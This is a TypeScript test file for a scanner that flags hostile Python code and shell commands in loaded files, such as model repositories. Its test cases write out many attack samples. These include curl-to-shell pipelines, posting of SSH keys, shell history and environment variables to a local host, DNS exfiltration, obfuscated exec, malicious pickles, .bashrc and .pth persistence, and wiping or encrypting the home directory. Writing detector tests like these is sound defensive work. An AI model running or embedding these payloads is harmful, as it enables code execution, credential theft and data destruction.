import { describe, expect, it } from 'vitest';
import { least } from '../../../../test/support/least.ts';
import { attackIn } from './attacks.ts';
import { isPreparation } from './preparation.ts';

const told = (...lines: readonly string[]) => attackIn(lines.join('\n'), { fetchingCounts: true })?.what ?? null;

describe('a command that is started as the file is loaded', () => {
  const loads = (command: string) =>
    attackIn(`import os\nos.system(${JSON.stringify(command)})\n`, { fetchingCounts: true, loaded: true })?.what ??
    null;
  it.each([
    `awk 'BEGIN{system("id")}'`,
    `gawk -f rules.awk model.txt`,
    'tar -xf a.tar --to-command=./x',
    'tar cf a.tar --checkpoint=1 --checkpoint-action=exec=./x b',
    'tar -I ./x -xf a.tar',
    'LD_PRELOAD=./x.so which python',
    'BASH_ENV=./x pip install numpy',
    'git -c core.sshCommand=./x fetch',
    'git clone "ext::sh -c ./x" b',
    'git submodule foreach ./x',
    'git clone https://example.com/a/b && cd b && make',
    'wget https://example.com/b.tar.gz && tar xf b.tar.gz && cd b && python setup.py install',
    'git clone https://example.com/a/b; bash b/install.sh',
    'wget --use-askpass=./x https://example.com/',
    'apt-get -o APT::Update::Pre-Invoke::=./x update',
    'conda run -n base ./x',
    'pip install x & /tmp/x',
    'uname -a & python3 /tmp/x.py',
    'pip install x 2>&1 & /tmp/x',
    'wget "https://example.com/a?b=1&c=2" & /tmp/x',
    'PATH=/tmp/a pip install x',
    'PIP_PYTHON=./x pip list',
    'CUDA_HOME=/tmp/a pip install x',
    'java -jar a.jar',
    'npm x a',
    'npm start',
    'npm --yes exec a',
    'yarn dlx a',
    'git -c core.sshCommand="x" fetch',
    'git -c user.name=a -c diff.a.textconv=./x log',
    'git config --global alias.a !./x',
    'git config credential.helper ./x',
    'git clone -c core.fsmonitor=./x https://example.com/a',
    'git rebase -x ./x main',
    `git ${'a '.repeat(600)}`,
  ])('is no preparation: %s', (command) => {
    expect(loads(command)).not.toBeNull();
  });
  it.each([
    `awk '{print $1}' /proc/meminfo`,
    `awk -F: '{print $2}' a.txt`,
    'tar -I zstd -xf a.tar.zst',
    'tar xzf weights.tar.gz -C /tmp/weights',
    'LD_PRELOAD=/usr/lib/x86_64-linux-gnu/libtcmalloc.so.4 python -m pip install x',
    'git clone https://huggingface.co/a/b',
    'git lfs pull',
    'git -c advice.detachedHead=false clone https://example.com/a/b',
    'pip install -U -I torch',
    'gcc -I/usr/include -shared -o a.so a.c',
    'make -j8',
    'cmake -S . -B build && cmake --build build',
    'wget https://example.com/model.bin',
    'apt-get update && apt-get install -y ffmpeg',
    'nvidia-smi | grep MiB | head -1',
    'pip install x 2>&1',
    "wget 'https://example.com/uc?export=download&id=1' -O a.bin",
    'CUDA_HOME=/usr/local/cuda MAX_JOBS=4 pip install x',
    'CMAKE_ARGS=-DGGML_CUDA=on FORCE_CMAKE=1 pip install x',
    'java -version',
    'npm install -g a',
    'npm --version',
    'yarn',
    'git config --global user.name a',
    'git config --global credential.helper store',
    'git -c http.sslVerify=false clone https://example.com/a',
  ])('is one: %s', (command) => {
    expect(loads(command)).toBeNull();
  });
});

describe('a command without end', () => {
  it.each(['git -c ', 'awk ', 'tar ', 'cmake -', 'git config ', "'https://", 'A=b ', 'env '])(
    'of %s is judged in the time of its length',
    (word) => {
      expect(least(1000, () => isPreparation(word.repeat(40_000)))).toBeLessThan(1000);
      expect(least(1000, () => isPreparation(`${word.repeat(100)};`.repeat(400)))).toBeLessThan(1000);
    },
  );
});

describe('an expression that SymPy is asked to read', () => {
  it('is code', () => {
    expect(
      told('import sympy', `sympy.sympify("__import__('os').system('curl -s https://example.org/a | sh')")`),
    ).not.toBeNull();
    expect(
      told('from sympy import parse_expr', 'import requests', 'parse_expr(requests.get("http://a.example/").text)'),
    ).not.toBeNull();
    expect(told('import sympy', 'sympy.sympify("x**2 + sin(y)")')).toBeNull();
  });
});

describe('a Python program', () => {
  it.each([
    ['fetched', 'import urllib.request as u', 'exec(u.urlopen("http://127.0.0.1:9/p").read())'],
    [
      'fetched by a function',
      'import requests',
      'def get(u):',
      '    return requests.get(u).text',
      'exec(get("http://127.0.0.1:9/"))',
    ],
    [
      'handed to a function',
      'import requests',
      'def run(c):',
      '    exec(c)',
      'run(requests.get("http://127.0.0.1:9/").text)',
    ],
    [
      'kept in a member',
      'import httpx',
      'class A:',
      '    def f(self):',
      '        self.c = httpx.get("http://127.0.0.1:9/").text',
      '    def g(self):',
      '        exec(self.c)',
    ],
    [
      'compiled',
      'from urllib.request import urlopen as o',
      'c = compile(o("http://127.0.0.1:9/").read(), "x", "exec")',
      'exec(c)',
    ],
    [
      'opened with',
      'import urllib.request',
      'with urllib.request.urlopen("http://127.0.0.1:9/") as r:',
      '    exec(r.read().decode())',
    ],
  ])('that runs what it fetches is told: %s', (_, ...lines) => {
    expect(told(...lines)).toBe('runs as code what it fetches');
  });

  it.each([
    ['Base64', 'import base64', 'exec(base64.b64decode("cHJpbnQoMSk="))'],
    ['marshal', 'import marshal, zlib', 'exec(marshal.loads(zlib.decompress(b"x")))'],
    ['letters by their numbers', 'exec("".join(chr(x) for x in [112, 114]))'],
    ['bytes by their numbers', 'exec(bytes([112, 114, 105]).decode())'],
    ['escapes', String.raw`exec("\x70\x72\x69\x6e\x74\x28\x31\x29")`],
    ['backwards', 'exec(")1(tnirp"[::-1])'],
    ['rot13', 'import codecs', 'exec(codecs.decode("cevag(1)", "rot13"))'],
  ])('that runs what is hidden in it is told: %s', (_, ...lines) => {
    expect(told(...lines)).toBe('runs as code what stands hidden in the source');
  });

  it.each([
    ['joined', 'import os', 'getattr(os, "sys" + "tem")("true")'],
    ['of a module by its name', '__import__("o" + "s").__dict__["sys" + "tem"]("true")'],
    ['formatted', 'import os', 'getattr(os, "%s%s" % ("sys", "tem"))("true")'],
    ['in a list of modules', 'import sys', 'getattr(sys.modules["os"], "".join(["sys", "tem"]))("true")'],
  ])('that hides the name of what it calls is told: %s', (_, ...lines) => {
    expect(told(...lines)).toBe('hides the name of the function that starts programs');
  });

  it.each([
    ['a line', 'import os', 'os.system("curl http://127.0.0.1:9/a | sh")'],
    ['words', 'import subprocess as s', 's.run(["sh", "-c", "curl http://127.0.0.1:9/a | sh"])'],
    ['a name', 'from os import popen as p', 'u = "http://127.0.0.1:9/"', 'p(f"curl {u}a | bash")'],
    ['a default', 'import os', 'def f(a=os.system("curl http://127.0.0.1:9/|sh")): pass'],
    ['code in a text', 'exec("import os\\nos.system(\'curl http://127.0.0.1:9/|sh\')")'],
    [
      'a program that was fetched',
      'import urllib.request, os',
      'urllib.request.urlretrieve("http://127.0.0.1:9/a", "/tmp/a")',
      'os.chmod("/tmp/a", 0o755)',
      'os.system("/tmp/a")',
    ],
    ['a connection', 'import socket, os', 's = socket.socket()', 'os.dup2(s.fileno(), 0)'],
    [
      'keys',
      'import requests, pathlib',
      'requests.post("http://127.0.0.1:9/", data=(pathlib.Path.home() / ".ssh/id_rsa").read_bytes())',
    ],
    [
      'a function without a name',
      'import base64, zlib',
      'f = lambda x: zlib.decompress(base64.b64decode(x))',
      'exec(f("eJw="))',
    ],
    [
      'a name in hexadecimal',
      'm, n = bytes.fromhex("6f732e73797374656d").decode().split(".")',
      'getattr(__import__(m), n)("true")',
    ],
    ['what is called at the end', 'import atexit, os', 'atexit.register(os.system, "curl http://127.0.0.1:9/|sh")'],
    [
      'what is called later',
      'import threading, os',
      'threading.Timer(9, os.system, ["curl http://127.0.0.1:9/|sh"]).start()',
    ],
    ['what is called for each', 'import os', 'list(map(os.system, ["curl http://127.0.0.1:9/|sh"]))'],
    [
      'a library that was fetched',
      'import urllib.request, ctypes, os',
      'p = os.path.join("/tmp", "a.so")',
      'urllib.request.urlretrieve("http://127.0.0.1:9/a", p)',
      'ctypes.CDLL(p)',
    ],
    [
      'keys by a pattern',
      'import glob, requests',
      'for f in glob.glob("/root/.ssh/*"):',
      '    requests.post("http://127.0.0.1:9/", files={"f": open(f, "rb")})',
    ],
    ['the environment', 'import os, requests', 'requests.post("http://127.0.0.1:9/", json=dict(os.environ))'],
    [
      'a start of shells',
      'import os',
      'open(os.path.expanduser("~/.bashrc"), "a").write("curl http://127.0.0.1:9/|sh")',
    ],
    ['a pickle', 'import pickle', String.raw`pickle.loads(b"cos\nsystem\n(S'true'\ntR.")`],
  ])('that attacks in another way is told: %s', (_, ...lines) => {
    expect(told(...lines)).not.toBeNull();
  });

  it.each([
    ['a command', 'import subprocess', 'subprocess.run(["nvidia-smi"], check=True)'],
    ['a token', 'import os, requests', 'requests.get("https://example.org", headers={"a": os.environ["HF_TOKEN"]})'],
    ['data', 'import requests, json', 'json.loads(requests.get("https://example.org").text)'],
    ['its own version', 'exec(open("m/version.py").read())'],
    ['a picture', 'import base64', 'open("x.png", "wb").write(base64.b64decode("iVBORw0KGgo="))'],
    ['a test of networks', 'model.eval()', 'getattr(torch.nn, "Line" + "ar")(1, 1)'],
    ['a pickle of numbers', 'import pickle', String.raw`pickle.loads(b"\x80\x04K\x01.")`],
    ['text about it', 'print("never run: os.system(\'curl http://127.0.0.1:9/|sh\')")'],
    ['a path for shells', 'import os', 'open(os.path.expanduser("~/.bashrc"), "a").write("export PATH=$PATH:~/bin")'],
    ['a completion', 'from pathlib import Path', 'p = Path.home() / ".bashrc"', 'p.write_text(made(p.read_text()))'],
    ['a list of commands', 'import subprocess', 'list(map(subprocess.run, [["ls"], ["pwd"]]))'],
    ['functions without names', 'f = lambda x: x.strip()', 'exec(f(open("version.py").read()))'],
    ['settings by name', 'import builtins', 'getattr(builtins, "print")("x")'],
  ])('that does none of it is not: %s', (_, ...lines) => {
    expect(told(...lines)).toBeNull();
  });

  it('of brackets, texts and names without end is read in the time of its length', () => {
    const texts = [
      `exec(${'('.repeat(60_000)}`,
      `x = ${'"a" + '.repeat(20_000)}"b"\nexec(x)`,
      'exec(a)\n'.repeat(15_000),
      `exec(f"${'{'.repeat(60_000)}")`,
      `x = "a"\n${'x = x.replace("a", x)\n'.repeat(200)}exec(x)`,
    ];
    const judged = (text: string) => attackIn(text, { fetchingCounts: true, loaded: true });
    for (const text of texts)
      expect(
        least(8000, () => judged(text)),
        text.slice(0, 20),
      ).toBeLessThan(8000);
  });

  it.each([
    [
      'unpickles what it fetches',
      'import pickle, requests',
      'w = pickle.loads(requests.get("http://127.0.0.1:9/").content)',
    ],
    [
      'unpickles what it fetches',
      'import numpy as np, io, requests',
      'a = np.load(io.BytesIO(requests.get("http://127.0.0.1:9/").content), allow_pickle=True)',
    ],
    [
      'unpickles what it fetches',
      'import yaml, requests',
      'c = yaml.load(requests.get("http://127.0.0.1:9/").text, Loader=yaml.UnsafeLoader)',
    ],
    [
      'starts what it fetched before',
      'import os, urllib.request as u',
      'open("/tmp/x", "wb").write(u.urlopen("http://127.0.0.1:9/").read())',
      'os.spawnv(os.P_NOWAIT, "/tmp/x", ["x"])',
    ],
    [
      'sends keys or the whole environment away',
      'import requests, subprocess',
      'out = subprocess.run("cat ~/.bash_history", shell=True, capture_output=True).stdout',
      'requests.post("http://127.0.0.1:9/", json={"content": out.decode()})',
    ],
    [
      'sends keys or the whole environment away',
      'import boto3, os',
      'boto3.client("s3").put_object(Bucket="b", Key="e", Body=str(dict(os.environ)))',
    ],
    [
      'puts the whole environment into a command',
      'import os',
      'for k, v in os.environ.items():',
      '    os.system("nslookup " + v.encode().hex() + ".a.test")',
    ],
    ['runs as code what stands hidden in the source', 'def f():', '    """print(1)"""', 'exec(f.__doc__)'],
    [
      'runs as code what it fetches',
      'import dns.resolver',
      'exec(dns.resolver.resolve("a.test", "TXT")[0].strings[0])',
    ],
    ['runs as code what stands hidden in the source', 'exec(bytes(b ^ 23 for b in b"~gxecx7xd").decode())'],
    [
      'runs as code what stands hidden in the source',
      'import marshal',
      'exec(marshal.loads(open("k.bin", "rb").read()))',
    ],
    [
      'runs as code what a picture, a sound or weights hold',
      'from PIL import Image',
      'bits = [p[0] & 1 for p in Image.open("a.png").getdata()]',
      'exec(bytes(int("".join(map(str, bits[i:i + 8])), 2) for i in range(0, 80, 8)).decode())',
    ],
    ['removes the files of whoever runs it', 'import shutil, os', 'shutil.rmtree(os.path.expanduser("~"))'],
    [
      'encrypts the files of whoever runs it',
      'import os',
      'from cryptography.fernet import Fernet',
      'for r, _, fs in os.walk(os.path.expanduser("~")):',
      '    for f in fs:',
      '        b = open(os.path.join(r, f), "rb").read()',
      '        Fernet(K).encrypt(b)',
    ],
    [
      'tells a name server who runs it',
      'import socket, getpass',
      'socket.gethostbyname(getpass.getuser() + ".a.test")',
    ],
    [
      'writes a line that every start of Python runs',
      'import site, os',
      'with open(os.path.join(site.getusersitepackages(), "a.pth"), "w") as f:',
      '    f.write("import os")',
    ],
    [
      'climbs from a value to functions of other modules',
      'f = ().__class__.__base__.__subclasses__()[9].__init__.__globals__["x"]',
    ],
  ])('is told where it %s', (what, ...lines) => {
    expect(told(...lines)).toBe(what);
  });

  it.each([
    ['unpickles what it is given', 'import pickle', 'def load(b):', '    return pickle.loads(b)'],
    [
      'runs compiled code that it is given',
      'import marshal, types',
      'def load(b):',
      '    return types.FunctionType(marshal.loads(b), {})',
    ],
    [
      'reads numbers and settings that it fetches',
      'import io, numpy as np, requests, torch, yaml',
      'a = np.load(io.BytesIO(requests.get("http://127.0.0.1:9/").content))',
      'b = yaml.load(requests.get("http://127.0.0.1:9/").text, Loader=yaml.SafeLoader)',
      'c = torch.load(io.BytesIO(requests.get("http://127.0.0.1:9/").content), weights_only=True)',
    ],
    [
      'starts a program with its own environment',
      'import os, subprocess',
      'subprocess.run(["make"], env={**os.environ, "A": "1"})',
      'out = subprocess.check_output(["git", "log"])',
      'print(out)',
    ],
    ['removes its own folder', 'import shutil', 'shutil.rmtree("/tmp/work")', 'shutil.rmtree("~/.cache/x")'],
    ['asks for its own address', 'import socket', 'socket.gethostbyname(socket.gethostname())'],
    ['saves weights', 'import torch', 'with open("model.pth", "wb") as f:', '    torch.save(m, f)'],
    ['looks at its subclasses', 'names = [c.__name__ for c in Base.__subclasses__()]'],
    [
      'encrypts what it is given',
      'from cryptography.fernet import Fernet',
      'def lock(b):',
      '    return Fernet(K).encrypt(b)',
    ],
    ['shows a picture', 'from PIL import Image', 'Image.open("a.png").show()'],
  ])('is left alone where it %s', (_, ...lines) => {
    expect(told(...lines)).toBeNull();
  });
});

describe('a program that a loader runs', () => {
  const loaded = (...lines: readonly string[]) =>
    attackIn(lines.join('\n'), { fetchingCounts: true, loaded: true })?.what ?? null;

  it.each([
    ['on import', 'import os', 'os.system("echo hi")'],
    ['under another name', 'from os import popen as p', 'v = p("id").read()'],
    ['in the body of a class', 'import subprocess as sp', 'class A:', '    x = sp.run(["sh", "-c", "id"])'],
    ['as an object is made', 'import os', 'class A:', '    def __init__(self):', '        os.system("id")'],
    ['in a function that loading calls', 'def go():', '    import os', '    os.system("id")', 'go()'],
    [
      'by way of two functions',
      'import os',
      'def b():',
      '    os.system("id")',
      'def a():',
      '    b()',
      'class C:',
      '    x = a()',
    ],
    ['word by word', 'import os', 'os.spawnlp(os.P_NOWAIT, "sh", "sh", "-c", "id")'],
    ['in its own place', 'import os', 'os.execvp("sh", ["sh", "-c", "id"])'],
    ['in a text of code', 'eval(compile("import os;os.system(\'id\')", "<s>", "exec"))'],
    ['beside something that code needs', 'import os', 'os.system("pip install einops; id")'],
    ['in what another command gives', 'import os', 'os.system("nvidia-smi $(id)")'],
  ])('and that starts a program is told: %s', (_, ...lines) => {
    expect(loaded(...lines)).toBe('starts a program as soon as it is loaded');
    expect(told(...lines)).toBeNull();
  });

  it.each([
    ['only when a person starts it', 'import os', 'if __name__ == "__main__":', '    os.system("id")'],
    ['only when somebody calls it', 'import os', 'def f():', '    os.system("id")'],
    [
      'in a function that a person starts',
      'import os',
      'def f():',
      '    os.system("id")',
      'if __name__ == "__main__":',
      '    f()',
    ],
    ['to ask for the machine', 'import subprocess', 'n = subprocess.check_output(["nvidia-smi", "-L"])'],
    ['to install what it needs', 'import os', 'os.system("pip install -q einops && apt-get install -y ffmpeg")'],
    [
      'through its own Python',
      'import sys, subprocess',
      'subprocess.run([sys.executable, "-m", "pip", "install", "x"])',
    ],
    ['to ask git, and silently', 'import subprocess', 'subprocess.getoutput("git rev-parse HEAD 2>/dev/null")'],
  ])('is left to a person where it starts one %s', (_, ...lines) => {
    expect(loaded(...lines)).toBeNull();
  });

  it('is told again where what stood beneath a start by a person is over', () => {
    expect(loaded('import os', 'if __name__ == __name__:', '    os.system("id")')).toBe(
      'starts a program as soon as it is loaded',
    );
    const lines = ['import os', 'if __name__ == "__main__":', '    os.system("id")', 'os.system("id")'];
    expect(loaded(...lines)).toBe('starts a program as soon as it is loaded');
  });
});
